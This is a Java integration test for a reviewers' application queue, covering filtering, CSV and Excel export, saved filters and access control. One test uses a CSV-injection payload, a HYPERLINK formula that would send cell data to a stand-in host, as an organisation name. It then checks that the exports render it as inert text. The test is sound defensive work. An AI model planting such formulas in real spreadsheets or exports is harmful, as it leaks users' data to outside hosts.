package cn.kaifeng.tfs.it;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import cn.kaifeng.tfs.testkit.WebClient;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.Map;
import org.jboss.arquillian.junit5.ArquillianExtension;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

/**
 * The reviewers' queue over HTTP: filters narrow the list in the database, exports give the filtered list as CSV
 * and as a real Excel file, a saved filter comes back, bad ranges are explained, and only reviewers get in.
 */
@ExtendWith(ArquillianExtension.class)
class QueueIT {

    @Test
    void filteredExportedAndSaved() {
        WebClient applicant = Applicants.as("demo.applicant");
        String credit = Applicants.submitted(applicant, "KF-XD-CREDIT");
        String leasing = Applicants.submitted(applicant, "KF-ZL-LEASING");

        WebClient reviewer = Applicants.as("demo.reviewer");
        String page = reviewer.get("/reviewer/applications.xhtml").body();
        assertTrue(page.contains(credit) && page.contains(leasing), "both are in the unfiltered queue");

        Map<String, String> filter = form(page, "apply");
        filter.put("queue:program_input", "KF-XD-CREDIT");
        HttpResponse<String> filtered = reviewer.post("/reviewer/applications.xhtml", filter);
        assertEquals(200, filtered.statusCode());
        assertTrue(filtered.body().contains(credit), "the credit application stays");
        assertFalse(filtered.body().contains(leasing), "the leasing one is filtered out");

        HttpResponse<byte[]> csv =
                reviewer.postForBytes("/reviewer/applications.xhtml", form(filtered.body(), "export-csv"));
        assertEquals(200, csv.statusCode());
        String text = new String(csv.body(), StandardCharsets.UTF_8);
        assertTrue(text.contains(credit), text);
        assertFalse(text.contains(leasing), "the export is the filtered list");

        HttpResponse<byte[]> xlsx =
                reviewer.postForBytes("/reviewer/applications.xhtml", form(filtered.body(), "export-xlsx"));
        assertEquals(200, xlsx.statusCode());
        assertTrue(xlsx.body().length > 100 && xlsx.body()[0] == 'P' && xlsx.body()[1] == 'K', "an xlsx (zip) file");

        Map<String, String> save = form(filtered.body(), "save-filter");
        save.put("queue:program_input", "KF-XD-CREDIT");
        save.put("queue:filter-name", "信贷类");
        HttpResponse<String> saved = reviewer.post("/reviewer/applications.xhtml", save);
        assertTrue(saved.body().contains("筛选条件“信贷类”已保存"), Applicants.errors(saved.body()));

        Map<String, String> badRange =
                form(reviewer.get("/reviewer/applications.xhtml").body(), "apply");
        badRange.put("queue:min_hinput", "80");
        badRange.put("queue:max_hinput", "20");
        HttpResponse<String> refused = reviewer.post("/reviewer/applications.xhtml", badRange);
        assertEquals(200, refused.statusCode());
        assertTrue(refused.body().contains("最低评分不能高于最高评分"));

        assertEquals(403, applicant.get("/reviewer/applications.xhtml").statusCode(), "applicants do not get in");
    }

    /**
     * An organisation named as a formula is exported as text: its cell starts with an apostrophe in the CSV and in
     * the Excel file, so opening the export runs nothing (OWASP CSV injection).
     */
    @Test
    void exportsCarryNoFormulas() throws java.io.IOException {
        String formula = "=HYPERLINK(\"http://x/?\"&A1,\"x\")";
        WebClient enterprise = Applicants.newEnterprise(TestData.username("gongshi"), formula, TestData.creditCode());
        String number = Applicants.submitted(enterprise, "KF-XD-CREDIT");

        WebClient reviewer = Applicants.as("demo.reviewer");
        Map<String, String> filter =
                form(reviewer.get("/reviewer/applications.xhtml").body(), "apply");
        filter.put("queue:program_input", "KF-XD-CREDIT");
        String filtered = reviewer.post("/reviewer/applications.xhtml", filter).body();

        String csv = new String(
                reviewer.postForBytes("/reviewer/applications.xhtml", form(filtered, "export-csv"))
                        .body(),
                StandardCharsets.UTF_8);
        String line =
                csv.lines().filter(l -> l.contains(number)).findFirst().orElseThrow(() -> new AssertionError(csv));
        assertTrue(line.contains("'=HYPERLINK"), line);
        assertFalse(line.matches(".*(^|,)\"?=HYPERLINK.*"), "no field starts with the formula: " + line);

        byte[] xlsx = reviewer.postForBytes("/reviewer/applications.xhtml", form(filtered, "export-xlsx"))
                .body();
        StringBuilder sheets = new StringBuilder();
        // a streamed xlsx has entries whose sizes follow their data: ZipFile reads them, ZipInputStream does not
        java.nio.file.Path file = java.nio.file.Files.createTempFile("queue", ".xlsx");
        try {
            java.nio.file.Files.write(file, xlsx);
            try (java.util.zip.ZipFile zip = new java.util.zip.ZipFile(file.toFile())) {
                for (java.util.zip.ZipEntry e : java.util.Collections.list(zip.entries())) {
                    if (e.getName().endsWith(".xml")) {
                        sheets.append(new String(zip.getInputStream(e).readAllBytes(), StandardCharsets.UTF_8));
                    }
                }
            }
        } finally {
            java.nio.file.Files.delete(file);
        }
        String xml = sheets.toString();
        assertTrue(xml.contains("&apos;=HYPERLINK") || xml.contains("'=HYPERLINK"), "the Excel cell is inert");
        assertFalse(xml.contains("<f>"), "and no cell of the file is a formula");
        assertFalse(xml.matches("(?s).*>=HYPERLINK.*"), "no cell text starts with the formula");
    }

    private static Map<String, String> form(String page, String button) {
        Map<String, String> form = new LinkedHashMap<>();
        form.put("queue", "queue");
        form.put("queue:" + button, "");
        form.put("jakarta.faces.ViewState", Applicants.viewState(page));
        return form;
    }
}
